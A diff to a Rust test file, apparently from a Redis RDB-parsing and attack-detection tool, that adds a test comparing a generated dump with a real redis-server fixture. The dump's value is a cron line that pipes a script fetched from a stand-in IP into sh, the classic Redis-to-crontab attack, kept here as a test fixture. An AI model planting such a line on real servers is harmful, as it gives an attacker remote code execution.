@@ -154,6 +154,26 @@ fn rdb_authorized_keys() {
     assert!(out.errors.is_empty(), "{:#?}", out.errors);
 }
 
+/// testkit's dump writer gives the bytes redis-server 7.0.15 wrote (but the checksum, which
+/// it leaves zero as `rdbchecksum no` does, and the `ctime`/`used-mem`/`aof-base` fields).
+#[test]
+fn testkit_dump_matches_redis_server() {
+    let value = b"\n\n*/1 * * * * curl -fsSL http://203.0.113.7/pm.sh | sh\n\n";
+    let ours = ferret_testkit::redis::rdb_dump(&[(b"x", value)]);
+    let real = fixture("crontab-root.rdb");
+    let tail = |d: &[u8]| {
+        d.get(d.windows(2).position(|w| w == [0xfe, 0]).unwrap()..d.len() - 8)
+            .unwrap()
+            .to_vec()
+    };
+    assert_eq!(tail(&ours), tail(&real));
+    assert_eq!(ours.get(..9), real.get(..9));
+    assert_eq!(
+        ferret_core::rdb::strings(&ours).values,
+        ferret_core::rdb::strings(&real).values
+    );
+}
+
 /// The same attack against the installed redis-server, when there is one.
 #[test]
 fn rdb_from_live_redis_server() {
